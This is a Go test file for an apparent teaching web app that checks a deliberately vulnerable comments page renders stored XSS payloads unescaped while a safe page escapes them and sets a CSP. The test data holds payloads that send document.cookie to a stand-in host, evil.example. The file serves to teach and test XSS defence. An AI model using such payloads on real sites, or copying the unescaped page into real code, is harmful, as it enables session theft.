package main

import (
	"net/url"
	"strings"
	"testing"

	"workbook/serve/problem/problemtest"
)

// TestStoredXSS stores a script and a javascript: link, then views them
// through both pages.
func TestStoredXSS(t *testing.T) {
	a, _ := newTestApp(t)
	h := problemtest.WatchErrors(t, a.routes())
	rec := do(h, "POST", "/comments", url.Values{
		"name":    {`<b onmouseover="steal()">mallory</b>`},
		"website": {"javascript:fetch('//evil.example/?c='+document.cookie)"},
		"text":    {"<script>fetch('//evil.example/?c='+document.cookie)</script>"},
	}, nil)
	if rec.Code != 201 {
		t.Fatalf("POST /comments = %d %q", rec.Code, rec.Body)
	}

	vuln := do(h, "GET", "/vuln/comments", nil, nil)
	for _, raw := range []string{"<script>fetch(", `href="javascript:`, `<b onmouseover=`} {
		if !strings.Contains(vuln.Body.String(), raw) {
			t.Errorf("/vuln/comments lacks %q: the attack did not land (%q)", raw, vuln.Body)
		}
	}
	if vuln.Header().Get("Content-Security-Policy") != "" {
		t.Error("/vuln/comments sends a CSP, so it does not show the undefended page")
	}

	safe := do(h, "GET", "/safe/comments", nil, nil)
	body := safe.Body.String()
	for _, raw := range []string{"<script", "javascript:", "<b "} {
		if strings.Contains(body, raw) {
			t.Errorf("/safe/comments contains %q unescaped: %q", raw, body)
		}
	}
	// Contextual: text is HTML-escaped, the href gets html/template's
	// placeholder for an unsafe URL.
	for _, want := range []string{"&lt;script&gt;", `href="#ZgotmplZ"`, "&lt;b onmouseover=&#34;steal()&#34;&gt;"} {
		if !strings.Contains(body, want) {
			t.Errorf("/safe/comments lacks %q: %q", want, body)
		}
	}
	if csp := safe.Header().Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") {
		t.Errorf("/safe/comments CSP = %q, want script-src 'self' (inline scripts blocked)", csp)
	}

	// Bad input: every field's problem at once.
	rec = do(h, "POST", "/comments", url.Values{"website": {strings.Repeat("x", 1001)}}, nil)
	p := problemtest.Want(t, rec.Code, rec.Header(), rec.Body.String(), 422, "/comments")
	if len(p.Errors) != 3 {
		t.Errorf("422 lists %d fields, want 3 (name, website, text): %+v", len(p.Errors), p.Errors)
	}
}
